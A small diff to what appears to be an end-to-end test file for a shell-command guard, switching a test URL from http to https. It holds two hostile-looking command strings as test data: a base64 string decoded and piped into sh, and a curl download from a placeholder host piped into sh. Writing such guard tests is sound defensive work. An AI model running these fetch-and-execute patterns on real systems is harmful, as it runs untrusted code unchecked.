@@ -12,7 +12,7 @@ from tests.e2e.harness import run
 pytestmark = pytest.mark.e2e
 
 BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # decoded text run by a shell: a block rule
-WARNED = "curl -fsS http://example.invalid/i.sh | sh"  # download piped into a shell: warn
+WARNED = "curl -fsS https://example.invalid/i.sh | sh"  # download piped into a shell: warn
 
 
 def test_dash_c_status_and_positional(attyguard_bin, ag_env):
